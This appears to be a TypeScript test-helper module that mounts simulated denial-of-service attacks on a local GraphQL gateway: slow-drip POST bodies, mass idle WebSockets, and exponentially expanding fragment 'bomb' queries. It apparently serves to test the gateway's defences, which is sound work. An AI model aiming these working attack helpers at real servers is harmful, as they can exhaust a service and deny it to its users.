import { once } from 'node:events';
import http from 'node:http';
import net from 'node:net';
import { setTimeout as after } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** The address of the attackers; their victim calls from another address. */
const ATTACKER = '127.0.0.1';

/** An attack that continues until it is stopped. */
export interface Attack {
  stop(): void;
}

/** Keeps this many requests open, each with a body of one byte a second. A request that is cut is replaced. */
export function slowBodies(urls: readonly string[], count: number): Attack & { cut(): number } {
  const sockets = new Set<net.Socket>();
  let isOver = false;
  let cut = 0;
  const open = (index: number): void => {
    const { port, pathname } = new URL(urls[index % urls.length] ?? '');
    const socket = net.connect({ port: Number(port), host: '127.0.0.1', localAddress: ATTACKER });
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(
      `POST ${pathname} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`,
    );
    socket.once('close', () => {
      sockets.delete(socket);
      if (isOver) return;
      cut += 1;
      // The pause prevents a busy loop if the server refuses connections.
      void after(100).then(() => isOver || open(index));
    });
  };
  for (let index = 0; index < count; index += 1) open(index);
  const drip = setInterval(() => {
    for (const socket of sockets) socket.write(' ');
  }, 1_000);
  return {
    cut: () => cut,
    stop() {
      isOver = true;
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Opens this many WebSockets at the graph without operations. Resolves when all are acknowledged. */
export async function idleSockets(gateway: string, count: number): Promise<Attack & { open(): number }> {
  const sockets = await Promise.all(Array.from({ length: count }, () => graphSocket(gateway)));
  return {
    open: () => sockets.filter(({ readyState }) => readyState === WebSocket.OPEN).length,
    stop: () => sockets.forEach((socket) => socket.terminate()),
  };
}

/** Sends every second an operation whose expansion is many times larger than its text, over HTTP and a WebSocket. */
export async function fragmentBombs(
  gateway: string,
): Promise<Attack & { codes(): readonly (string | undefined)[] }> {
  const codes: (string | undefined)[] = [];
  const socket = await graphSocket(gateway);
  socket.on('message', (data) => {
    const { type, payload } = JSON.parse((data as Buffer).toString());
    if (type === 'error') codes.push(payload[0].extensions.code);
    if (type === 'next') codes.push(payload.errors?.[0]?.extensions.code);
  });
  let sent = 0;
  const send = (): void => {
    sent += 1;
    const query = bombOf(20, sent);
    socket.send(JSON.stringify({ type: 'subscribe', id: String(sent), payload: { query } }));
    const body = JSON.stringify({ query });
    const request = http.request(
      `${gateway}/graphql`,
      {
        method: 'POST',
        localAddress: ATTACKER,
        agent: false,
        headers: { 'content-type': 'application/json' },
      },
      (answer) => {
        let text = '';
        answer.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
        answer.on('end', () => codes.push(JSON.parse(text).errors?.[0]?.extensions.code));
      },
    );
    request.on('error', () => undefined).end(body);
  };
  send();
  const timer = setInterval(send, 1_000);
  return {
    codes: () => codes,
    stop() {
      clearInterval(timer);
      socket.terminate();
    },
  };
}

/** A query whose fragments double its expansion at each level. @param number makes each text different */
function bombOf(levels: number, number: number): string {
  const fragments = Array.from(
    { length: levels },
    (_none, level) => `fragment F${level} on User { ...F${level + 1} ...F${level + 1} }`,
  );
  return `query Q${number} { me { ...F0 ...F0 } } ${fragments.join(' ')} fragment F${levels} on User { id }`;
}

async function graphSocket(gateway: string): Promise<WebSocket> {
  const socket = new WebSocket(`${gateway.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
    localAddress: ATTACKER,
  });
  socket.on('error', () => undefined);
  await once(socket, 'open');
  socket.send('{"type":"connection_init"}');
  await once(socket, 'message');
  return socket;
}
